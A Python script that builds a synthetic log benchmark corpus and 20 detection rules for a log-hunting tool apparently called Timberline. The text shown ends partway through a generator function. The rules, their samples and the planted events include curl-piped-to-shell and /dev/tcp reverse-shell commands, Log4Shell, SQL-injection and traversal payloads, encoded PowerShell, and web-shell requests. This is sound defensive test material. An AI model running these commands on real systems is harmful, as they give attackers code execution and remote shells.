#!/usr/bin/env python3
"""Deterministic benchmark corpus for Timberline (python3 stdlib only).

Writes, under DIR (default build/bench/corpus):

  logs/                 the evidence tree (~--mb MB decoded, ~20% of it in .gz files):
                        RFC 3164 auth.log/syslog, RFC 5424 app log, nginx + Apache combined
                        access logs, JSON lines with "@timestamp", Windows Security CSV export
  iocs.ioc              1,000 indicators for timberline (some written defanged); ~2% occur
  iocs.txt              the same indicators refanged, one per line, for rg/ugrep/grep -F -f
  rules.rules           20 PCRE2 rules in timberline's rule format
  rules-regex.txt       the same 20 regexes for ripgrep's default engine (named groups made (?:...))
  corpus.json           parameters, file list, planted-sighting counts (for sanity checks)

Same --seed and --mb give byte-identical output.
"""
import argparse
import gzip
import hashlib
import json
import os
import random
import re
import shutil
import sys
import time

# ---------------------------------------------------------------- fixed vocabulary

HOSTS = ["web1", "web2", "db1", "bastion", "mail1", "ci-runner3"]
USERS = ["alice", "bob", "deploy", "jenkins", "postgres", "www-data", "carol", "dave", "backup"]
BRUTE_USERS = ["root", "admin", "test", "oracle", "ubuntu", "user", "guest", "ftpuser", "pi",
               "git", "postgres", "support", "minecraft", "steam", "hadoop", "nagios"]
SUDO_CMDS = ["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update",
             "/usr/bin/journalctl -u app --since today", "/bin/cat /var/log/app/error.log",
             "/usr/bin/docker ps", "/usr/sbin/nginx -t", "/usr/bin/tail -n 200 /var/log/syslog"]
PATHS = ["/", "/index.html", "/products.php?id=%d", "/api/v1/orders/%d", "/api/v1/cart",
         "/static/js/app.%d.js", "/static/css/site.css", "/images/p/%d.jpg", "/search?q=shoes+%d",
         "/login", "/account/orders", "/favicon.ico", "/robots.txt", "/blog/post-%d",
         "/api/v1/products?page=%d&size=20", "/checkout/step-2", "/healthz"]
REFERERS = ["-", "https://shop.example.com/", "https://www.google.com/",
            "https://shop.example.com/cart", "https://www.bing.com/search?q=shoes"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0", "python-requests/2.31.0", "kube-probe/1.29",
]
SCANNER_UAS = ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000066)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "Mozilla/5.0 (X11; Linux x86_64) nuclei/3.1.0", "gobuster/3.6", "masscan/1.3"]
SERVICES = ["order-svc", "payment-svc", "inventory", "auth-gw", "mailer"]
MSGIDS = ["ORDER", "PAY", "STOCK", "AUTH", "SMTP", "-"]
BG_FIRST_OCTETS = [23, 34, 52, 66, 73, 98, 104, 142, 157, 166, 24, 71, 86]
IOC_FIRST_OCTETS = [45, 89, 91, 185, 193, 194, 212, 217]
TLDS = ["top", "xyz", "ru", "cc", "info", "biz", "online", "site", "club", "icu"]
WORDS = ["update", "cdn", "secure", "login", "verify", "account", "files", "sync", "cloud",
         "mail", "static", "api", "portal", "drive", "docs", "office", "auth", "data", "srv",
         "node", "edge", "relay", "track", "metrics", "panel"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# The 20 rules. Byte-mode PCRE2; only constructs ripgrep's default engine also knows, so the
# rg variant is a mechanical rewrite of the named groups (see to_rg).
RULES = [
    ("ssh-failed-password", "medium", "Failed SSH password", "attack.t1110.001, credential-access",
     r"sshd\[\d+\]: Failed password for (?:invalid user )?(?<user>\S+) from (?<src_ip>[0-9a-fA-F:.]+) port (?<src_port>\d+)",
     "Jan  3 12:00:01 web1 sshd[811]: Failed password for root from 203.0.113.5 port 4242 ssh2",
     "Jan  3 12:00:02 web1 sshd[811]: Accepted password for root from 203.0.113.5 port 4242 ssh2"),
    ("ssh-invalid-user", "low", "SSH attempt for a non-existent user", "attack.t1110, credential-access",
     r"sshd\[\d+\]: Invalid user (?<user>\S*) from (?<src_ip>[0-9a-fA-F:.]+) port \d+",
     "Jan  3 12:00:03 web1 sshd[4117]: Invalid user oracle from 203.0.113.5 port 51320",
     "Jan  3 12:00:05 web1 sshd[4117]: Failed password for invalid user oracle from 203.0.113.5 port 51320 ssh2"),
    ("ssh-root-login-accepted", "high", "Root logged in over SSH", "attack.t1078.003, initial-access",
     r"sshd\[\d+\]: Accepted (?<method>password|publickey|keyboard-interactive/pam) for root from (?<src_ip>[0-9a-fA-F:.]+)",
     "Jan  3 12:11:42 web1 sshd[4990]: Accepted password for root from 203.0.113.5 port 40714 ssh2",
     "Jan  3 12:11:42 web1 sshd[4990]: Accepted publickey for deploy from 10.0.0.5 port 40714 ssh2"),
    ("sudo-root-shell", "high", "sudo to an interactive root shell", "attack.t1548.003, privilege-escalation",
     r"sudo(?:\[\d+\])?: +(?<user>\S+) : .*COMMAND=(?<command>/(?:usr/)?bin/(?:ba|z|da)?sh(?: -i)?|/usr/bin/su(?: -)?)$",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt-get update"),
    ("sudo-auth-failure", "medium", "Repeated wrong sudo password", "attack.t1548.003, privilege-escalation",
     r"sudo(?:\[\d+\])?: +(?<user>\S+) : (?<count>\d+) incorrect password attempts?",
     "Jan  3 12:12:01 web1 sudo:   www-data : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/ls"),
    ("new-local-user", "medium", "Local account created", "attack.t1136.001, persistence",
     r"useradd\[\d+\]: new user: name=(?<user>[^,]+), UID=(?<uid>\d+)",
     "Jan  3 12:13:00 web1 useradd[5120]: new user: name=sysupd, UID=1005, GID=1005, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0",
     "Jan  3 12:13:00 web1 useradd[5120]: new group: name=sysupd, GID=1005"),
    ("download-pipe-shell", "critical", "Remote script piped into a shell (curl|sh)", "attack.t1059.004, execution",
     r"(?i:curl|wget)\s[^|;]*?(?<url>https?://[^\s|;'\"]+)[^|;]*\|\s*(?:sudo\s+)?(?:ba|da|z)?sh\b",
     "Jan  3 12:14:00 web1 CRON[6001]: (root) CMD (curl -fsSL http://evil.example/x.sh | sh)",
     "Jan  3 12:14:00 web1 CRON[6001]: (root) CMD (curl -fsSL http://good.example/x.sh -o /tmp/x.sh)"),
    ("reverse-shell-devtcp", "critical", "bash reverse shell via /dev/tcp", "attack.t1059.004, execution",
     r"(?:ba)?sh -i\s*>&\s*/dev/tcp/(?<dst_ip>[0-9.]+)/(?<dst_port>\d+)",
     "Jan  3 12:15:00 web1 CRON[6002]: (www-data) CMD (bash -i >& /dev/tcp/198.51.100.9/4444 0>&1)",
     "Jan  3 12:15:00 web1 CRON[6002]: (root) CMD (test -x /usr/sbin/anacron)"),
    ("web-sqli-union", "high", "SQL injection: UNION SELECT", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"(?<method>[A-Z]+) (?<url>[^\" ]*(?i:union(?:%20|\+|/\*\*/)+(?:all(?:%20|\+)+)?select(?:%20|\+|%28|\(|/\*))[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /p.php?id=7%20UNION%20ALL%20SELECT%20NULL HTTP/1.1" 200 9788 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /search?q=credit+union+selection HTTP/2.0" 200 11872 "-" "curl/8.5.0"'),
    ("web-sqli-tautology", "high", "SQL injection: tautology or sleep", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ [^\" ]*\?[^\" ]*(?i:(?:%27|')(?:%20|\+)*or(?:%20|\+)+(?:%27|')?1(?:%27|')?(?:%3d|=)|sleep(?:%28|\()\d)",
     '203.0.113.5 - - [03/Jan/2026:11:26:22 +0000] "GET /products.php?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 15220 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:11:26:22 +0000] "GET /products.php?id=12 HTTP/1.1" 200 15220 "-" "curl/8.5.0"'),
    ("web-path-traversal", "high", "Directory traversal in the request", "attack.t1083, discovery",
     r"^(?<src_ip>[0-9a-fA-F:.]+) .*\"[A-Z]+ (?<url>[^\" ]*(?:\.\./|\.\.%2[fF]|%2[eE]%2[eE]%2[fF]|%2[eE]%2[eE]/)[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /download?f=../../../../etc/passwd HTTP/1.1" 400 153 "-" "curl/8.5.0"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /static/css/site.css HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("web-scanner-ua", "medium", "Vulnerability scanner User-Agent", "attack.t1595.002, reconnaissance",
     r"^(?<src_ip>[0-9a-fA-F:.]+) .*\" (?<status>\d{3}) \S+ \"[^\"]*\" \"(?<user_agent>[^\"]*(?i:nikto|nmap scripting engine|masscan|zgrab|nuclei|gobuster|sqlmap|wpscan)[^\"]*)\"",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /admin/ HTTP/1.1" 404 153 "-" "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000066)"',
     '192.0.2.114 - - [03/Jan/2026:06:05:36 +0000] "GET /blog/nikto-review HTTP/2.0" 200 5120 "-" "curl/8.5.0"'),
    ("web-sensitive-file", "medium", "Probe for secrets or VCS metadata", "attack.t1552.001, credential-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ (?<url>/(?:[^\" ]*/)?(?:\.env|\.git/config|\.aws/credentials|wp-config\.php\.bak|id_rsa)) ",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8.5.0"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /environment HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("web-webshell-access", "critical", "Request to a likely web shell", "attack.t1505.003, persistence",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"(?:GET|POST) (?<url>/[^\" ]*/(?:c99|r57|wso|shell|cmd|b374k)\.php(?:\?[^\" ]*)?) HTTP/[0-9.]+\" (?<status>200)",
     '203.0.113.5 - - [03/Jan/2026:11:40:00 +0000] "POST /uploads/wso.php HTTP/1.1" 200 52 "-" "curl/8.5.0"',
     '203.0.113.5 - - [03/Jan/2026:11:40:00 +0000] "POST /uploads/wso.php HTTP/1.1" 404 52 "-" "curl/8.5.0"'),
    ("web-log4shell", "critical", "Log4Shell JNDI lookup string", "attack.t1190, initial-access",
     r"\$\{(?:\$\{[^}]*\}|[jJ])(?:\$\{[^}]*\}|[nN])(?:\$\{[^}]*\}|[dD])(?:\$\{[^}]*\}|[iI]):(?<proto>ldap|ldaps|rmi|dns|iiop)",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET / HTTP/1.1" 200 153 "-" "${jndi:ldap://198.51.100.9:1389/a}"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /jndi/ldap HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("json-encoded-powershell", "high", "PowerShell with an encoded command", "attack.t1059.001, execution",
     r"\"command_line\":\"[^\"]*powershell(?:\.exe)?[^\"]* -(?i:e|enc|encodedcommand) (?<payload>[A-Za-z0-9+/=]{20,})",
     '{"@timestamp":"2026-01-03T12:00:00Z","event":"process_start","command_line":"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","event":"process_start","command_line":"powershell.exe -File C:\\\\ops\\\\backup.ps1"}'),
    ("win-logon-failure", "low", "Windows logon failure (4625)", "attack.t1110, credential-access",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,4625,[^,]*,[^,]*,\"?An account failed to log on.*Account Name:\s+(?<user>[^\s,]+)",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4625,Information,Logon,"An account failed to log on. Account Name: administrator Source Network Address: 203.0.113.5"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4624,Information,Logon,"An account was successfully logged on. Account Name: alice"'),
    ("win-admin-group-add", "high", "Member added to a privileged group (4728/4732/4756)", "attack.t1098, persistence",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,(?<event_id>4728|4732|4756),.*Group Name:\s+(?<group>Administrators|Domain Admins|Enterprise Admins)",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Member Name: CORP\\svc_upd Group Name: Administrators"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Member Name: CORP\\bob Group Name: Print Operators"'),
    ("win-audit-log-cleared", "critical", "Security audit log cleared (1102)", "attack.t1070.001, defense-evasion",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,1102,",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,1102,Information,Log clear,"The audit log was cleared."',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,11020,Information,Other,"x"'),
    ("app-auth-lockout", "medium", "Application account lockout (RFC 5424 app log)", "attack.t1110, credential-access",
     r"^<\d{1,3}>1 \S+ \S+ (?<app>\S+) \S+ AUTH \[[^\]]*user=\"(?<user>[^\"]+)\"[^\]]*\] account locked after (?<count>\d+) failed attempts",
     '<38>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] account locked after 5 failed attempts',
     '<38>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] login ok'),
]


def to_rg(regex):
    """PCRE2 -> ripgrep's default engine for the rules above. rg joins all -f patterns with '|',
    so the same group name in two rules is a "duplicate capture group name" error there: the
    named groups become non-capturing (matching is unchanged, rg reports whole lines anyway)."""
    return re.sub(r"\(\?<([A-Za-z_][A-Za-z0-9_]*)>", "(?:", regex)


def plain(regex):
    """The raw strings above escape '"' for Python's sake; neither engine needs it."""
    return regex.replace('\\"', '"')


def rand_ip(rng, firsts):
    return "%d.%d.%d.%d" % (rng.choice(firsts), rng.randrange(256), rng.randrange(256),
                            rng.randrange(1, 255))


def defang(ind, kind):
    if kind == "domain":
        return ind.replace(".", "[.]", 1)
    if kind == "email":
        return ind.replace("@", "[@]").replace(".", "[.]")
    if kind == "ipv4":
        a, b = ind.rsplit(".", 1)
        return a + "[.]" + b
    return ind


class Clock:
    """Monotonic log clock with cached per-second formatting."""

    def __init__(self, rng, start):
        self.rng = rng
        self.t = start
        self._sec = None

    def tick(self):
        # ~3 lines per second on average, in bursts
        if self.rng.random() < 0.35:
            self.t += self.rng.randrange(1, 3)
        if self.t != self._sec:
            self._sec = self.t
            tm = time.gmtime(self.t)
            self.c3164 = "%s %2d %02d:%02d:%02d" % (MONTHS[tm.tm_mon - 1], tm.tm_mday, tm.tm_hour,
                                                    tm.tm_min, tm.tm_sec)
            self.iso = "%04d-%02d-%02dT%02d:%02d:%02d" % tm[:6]
            self.clf = "%02d/%s/%04d:%02d:%02d:%02d +0000" % (tm.tm_mday, MONTHS[tm.tm_mon - 1],
                                                             tm.tm_year, tm.tm_hour, tm.tm_min,
                                                             tm.tm_sec)
        return self.t


class Gen:
    def __init__(self, rng, iocs_present, stats):
        self.rng = rng
        self.bg_ips = [rand_ip(rng, BG_FIRST_OCTETS) for _ in range(4000)]
        self.lan_ips = ["10.0.%d.%d" % (rng.randrange(8), rng.randrange(2, 250)) for _ in range(200)]
        self.p = iocs_present  # dict kind -> list of present indicators
        self.stats = stats
        # rates are per background line; chosen so that a 100 MB corpus gets a few thousand
        # indicator sightings and ~1-3% of lines hit a rule
        self.sight = 0.0025

    def bump(self, key, n=1):
        self.stats[key] = self.stats.get(key, 0) + n

    def ioc_ip(self):
        self.bump("sightings.ipv4")
        return self.rng.choice(self.p["ipv4"])

    # -- RFC 3164 auth.log
    def auth(self, c):
        r = self.rng
        c.tick()
        h = r.choice(HOSTS)
        pid = r.randrange(1000, 65000)
        x = r.random()
        ts = c.c3164
        if x < self.sight:
            ip = self.ioc_ip()
            u = r.choice(BRUTE_USERS)
            return "%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2" % (
                ts, h, pid, u, ip, r.randrange(1024, 65535))
        if x < 0.10:
            ip = r.choice(self.bg_ips)
            u = r.choice(BRUTE_USERS)
            if r.random() < 0.5:
                return "%s %s sshd[%d]: Failed password for %s from %s port %d ssh2" % (
                    ts, h, pid, u, ip, r.randrange(1024, 65535))
            return "%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2" % (
                ts, h, pid, u, ip, r.randrange(1024, 65535))
        if x < 0.14:
            return "%s %s sshd[%d]: Invalid user %s from %s port %d" % (
                ts, h, pid, r.choice(BRUTE_USERS), r.choice(self.bg_ips), r.randrange(1024, 65535))
        if x < 0.30:
            return "%s %s sshd[%d]: Connection closed by %s port %d [preauth]" % (
                ts, h, pid, r.choice(self.bg_ips), r.randrange(1024, 65535))
        if x < 0.40:
            return "%s %s sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (
                ts, h, pid, r.choice(USERS), r.choice(self.lan_ips), r.randrange(1024, 65535),
                "%032x" % r.getrandbits(128))
        if x < 0.60:
            u = r.choice(USERS)
            return "%s %s sshd[%d]: pam_unix(sshd:session): session %s for user %s%s" % (
                ts, h, pid, r.choice(("opened", "closed")), u,
                "(uid=%d) by (uid=0)" % r.randrange(1000, 1010) if r.random() < 0.5 else "")
        if x < 0.70:
            u = r.choice(USERS)
            return "%s %s sudo:   %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
                ts, h, u, r.randrange(5), u, r.choice(SUDO_CMDS))
        if x < 0.7015:
            self.bump("planted.sudo-root-shell")
            return "%s %s sudo:   %s : TTY=pts/%d ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash" % (
                ts, h, r.choice(("deploy", "www-data")), r.randrange(5))
        if x < 0.7025:
            self.bump("planted.sudo-auth-failure")
            return "%s %s sudo:   www-data : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash" % (ts, h)
        if x < 0.7027:
            self.bump("planted.new-local-user")
            return "%s %s useradd[%d]: new user: name=sysupd%d, UID=%d, GID=%d, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0" % (
                ts, h, pid, r.randrange(9), 1005, 1005)
        if x < 0.7030:
            self.bump("planted.ssh-root-login-accepted")
            return "%s %s sshd[%d]: Accepted password for root from %s port %d ssh2" % (
                ts, h, pid, self.ioc_ip() if r.random() < 0.5 else r.choice(self.bg_ips),
                r.randrange(1024, 65535))
        if x < 0.85:
            return "%s %s systemd-logind[%d]: %s session %d of user %s." % (
                ts, h, r.randrange(400, 900), r.choice(("New", "Removed")), r.randrange(1, 99999),
                r.choice(USERS))
        return "%s %s CRON[%d]: pam_unix(cron:session): session %s for user root" % (
            ts, h, pid, r.choice(("opened", "closed")))

    # -- RFC 3164 syslog
    def syslog(self, c):
        r = self.rng
        c.tick()
        h = r.choice(HOSTS)
        ts = c.c3164
        x = r.random()
        if x < self.sight * 0.5:
            self.bump("sightings.domain")
            d = r.choice(self.p["domain"])
            return "%s %s dnsmasq[%d]: query[A] %s from %s" % (ts, h, r.randrange(300, 900), d,
                                                               r.choice(self.lan_ips))
        if x < 0.0014:
            self.bump("planted.download-pipe-shell")
            self.bump("sightings.domain")
            d = r.choice(self.p["domain"])
            return "%s %s CRON[%d]: (root) CMD (curl -fsSL http://%s/x.sh | sh >/dev/null 2>&1)" % (
                ts, h, r.randrange(1000, 65000), d)
        if x < 0.0015:
            self.bump("planted.reverse-shell-devtcp")
            self.bump("sightings.ipv4")
            return "%s %s CRON[%d]: (www-data) CMD (bash -i >& /dev/tcp/%s/4444 0>&1)" % (
                ts, h, r.randrange(1000, 65000), r.choice(self.p["ipv4"]))
        if x < 0.25:
            return "%s %s kernel: [%d.%06d] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=%s DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0" % (
                ts, h, r.randrange(100000), r.randrange(1000000), r.choice(self.bg_ips),
                r.randrange(30, 250), r.randrange(65535), r.randrange(1024, 65535),
                r.choice((22, 23, 80, 443, 3389, 5900, 8080)))
        if x < 0.45:
            return "%s %s CRON[%d]: (root) CMD (%s)" % (ts, h, r.randrange(1000, 65000), r.choice((
                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
                "/usr/local/bin/backup.sh --incremental", "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean")))
        if x < 0.70:
            return "%s %s systemd[1]: %s" % (ts, h, r.choice((
                "Started Session %d of User deploy." % r.randrange(99999),
                "Starting Daily apt download activities...", "logrotate.service: Deactivated successfully.",
                "Finished Rotate log files.", "Started Run anacron jobs.", "phpsessionclean.service: Deactivated successfully.")))
        if x < 0.90:
            return "%s %s postfix/smtpd[%d]: connect from unknown[%s]" % (
                ts, h, r.randrange(1000, 65000), r.choice(self.bg_ips))
        if x < 0.9005:
            self.bump("sightings.email")
            return "%s mail1 postfix/smtpd[%d]: NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <%s>: Relay access denied; from=<%s> to=<ops@example.com> proto=ESMTP helo=<mx>" % (
                ts, r.randrange(1000, 65000), r.choice(self.bg_ips), "ops@example.com",
                r.choice(self.p["email"]))
        return "%s %s rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%d\"] rsyslogd was HUPed" % (
            ts, h, r.randrange(300, 900))

    # -- RFC 5424
    def r5424(self, c):
        r = self.rng
        c.tick()
        svc = r.choice(SERVICES)
        mid = r.choice(MSGIDS)
        frac = r.randrange(1000)
        x = r.random()
        if x < 0.0008:
            self.bump("planted.app-auth-lockout")
            return '<38>1 %s.%03dZ web1 auth-gw %d AUTH [meta@32473 user="%s" src="%s"] account locked after %d failed attempts' % (
                c.iso, frac, r.randrange(1000, 9999), r.choice(USERS), r.choice(self.bg_ips), r.randrange(5, 12))
        if x < 0.0008 + self.sight * 0.3:
            self.bump("sightings.sha256")
            return '<14>1 %s.%03dZ web1 %s %d UPLOAD [file@32473 sha256="%s" size="%d"] upload scanned' % (
                c.iso, frac, svc, r.randrange(1000, 9999), r.choice(self.p["sha256"]), r.randrange(1000, 10**7))
        return '<%d>1 %s.%03dZ %s %s %d %s [req@32473 id="%08x" user="%s" ms="%d"] %s' % (
            r.choice((14, 15, 30, 38, 134)), c.iso, frac, r.choice(HOSTS), svc, r.randrange(1000, 9999),
            mid, r.getrandbits(32), r.choice(USERS), r.randrange(1, 2000), r.choice((
                "request completed", "cache miss for key product:%d" % r.randrange(10**6),
                "order %d state=PAID" % r.randrange(10**7), "upstream latency above threshold",
                "login ok", "token refreshed", "retrying after 503 from upstream")))

    # -- NCSA combined (nginx / apache)
    def access(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ua = r.choice(UAS)
        ref = r.choice(REFERERS)
        st = r.choice((200, 200, 200, 200, 304, 301, 404, 200, 500))
        method = "GET" if r.random() < 0.9 else "POST"
        path = r.choice(PATHS)
        if "%d" in path:
            path = path % r.randrange(1, 100000)
        ip = r.choice(self.bg_ips) if r.random() < 0.8 else r.choice(self.lan_ips)
        if x < self.sight:
            ip = self.ioc_ip()
        elif x < 0.0045:
            ua = r.choice(SCANNER_UAS)
            self.bump("planted.web-scanner-ua")
            y = r.random()
            if y < 0.25:
                path = r.choice(("/.env", "/.git/config", "/backup/.env", "/.aws/credentials", "/wp-config.php.bak"))
                st = 404
            elif y < 0.5:
                path = "/download?file=" + r.choice(("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%2e%2e%2f%2e%2e%2fwin.ini"))
                st = 400
            elif y < 0.75:
                path = "/products.php?id=%d%s" % (r.randrange(100), r.choice((
                    "%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cversion()--", "%27%20OR%20%271%27%3D%271",
                    "%20AND%20SLEEP(5)", "+union+select+1,2,3")))
        elif x < 0.0047:
            self.bump("planted.web-webshell-access")
            path = "/wp-content/uploads/2025/11/%s.php?c=id" % r.choice(("wso", "c99", "shell"))
            method, st = "POST", 200
            ip = self.ioc_ip()
        elif x < 0.00475:
            self.bump("planted.web-log4shell")
            ua = "${jndi:ldap://%s:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}" % r.choice(self.p["ipv4"])
            self.bump("sightings.ipv4")
        elif x < 0.0048 and self.p["domain"]:
            self.bump("sightings.domain")
            ref = "http://%s/landing?id=%d" % (r.choice(self.p["domain"]), r.randrange(1000))
        return '%s - %s [%s] "%s %s HTTP/%s" %d %d "%s" "%s"' % (
            ip, "-" if r.random() < 0.95 else r.choice(USERS), c.clf, method, path,
            r.choice(("1.1", "2.0")), st, r.randrange(100, 60000), ref, ua)

    # -- JSON lines (EDR / app events)
    def jsonl(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ts = "%s.%03dZ" % (c.iso, r.randrange(1000))
        host = r.choice(("WS-0142", "WS-0877", "LAPTOP-7QX", "SRV-FILE01", "web1"))
        if x < 0.35:
            img = r.choice(("C:\\\\Windows\\\\System32\\\\svchost.exe", "C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe",
                            "C:\\\\Windows\\\\explorer.exe", "/usr/bin/python3", "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe"))
            cmd = img
            h = "%064x" % r.getrandbits(256)
            if x < self.sight * 0.4:
                h = r.choice(self.p["sha256"])
                self.bump("sightings.sha256")
            elif x < 0.0012:
                cmd = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
                self.bump("planted.json-encoded-powershell")
            return ('{"@timestamp":"%s","host":{"name":"%s"},"event":{"kind":"event","action":"process_start"},'
                    '"process":{"pid":%d,"executable":"%s","hash":{"sha256":"%s"}},"command_line":"%s","user":{"name":"%s"}}') % (
                ts, host, r.randrange(100, 30000), img, h, cmd, r.choice(USERS))
        if x < 0.65:
            dst = r.choice(self.bg_ips)
            dom = r.choice(("api.github.com", "update.googleapis.com", "login.microsoftonline.com",
                            "cdn.jsdelivr.net", "registry.npmjs.org", "s3.amazonaws.com"))
            if x < 0.35 + self.sight:
                dst = self.ioc_ip()
            elif x < 0.35 + self.sight * 1.4:
                dom = r.choice(self.p["domain"])
                self.bump("sightings.domain")
            return ('{"@timestamp":"%s","host":{"name":"%s"},"event":{"kind":"event","action":"connection"},'
                    '"destination":{"ip":"%s","port":%d,"domain":"%s"},"network":{"bytes":%d},"process":{"name":"%s"}}') % (
                ts, host, dst, r.choice((443, 80, 53, 8443)), dom, r.randrange(60, 10**6),
                r.choice(("chrome.exe", "svchost.exe", "curl", "python3", "OneDrive.exe")))
        return ('{"@timestamp":"%s","log":{"level":"%s"},"service":{"name":"%s"},"message":"%s","trace":{"id":"%032x"}}') % (
            ts, r.choice(("info", "info", "warn", "error", "debug")), r.choice(SERVICES), r.choice((
                "order created", "payment authorized", "payment declined: insufficient funds",
                "inventory reserved", "cache warmup finished", "slow query: 1532 ms",
                "user profile updated", "email queued")), r.getrandbits(128))

    # -- Windows Security CSV export (ISO first column, as Chainsaw/Hayabusa-style exports)
    def wincsv(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ts = "%s.%07dZ" % (c.iso, r.randrange(10**7))
        host = r.choice(("DC01.corp.example", "DC02.corp.example", "FS01.corp.example", "WS-0142.corp.example"))
        if x < 0.06:
            src = r.choice(self.bg_ips) if r.random() < 0.3 else r.choice(self.lan_ips)
            if x < self.sight:
                src = self.ioc_ip()
            return '%s,%s,Security,4625,Information,Logon,"An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Logon Type: 3 Account For Which Logon Failed: Account Name: %s Account Domain: CORP Failure Reason: Unknown user name or bad password. Source Network Address: %s Source Port: %d"' % (
                ts, host, r.choice(BRUTE_USERS + USERS), src, r.randrange(1024, 65535))
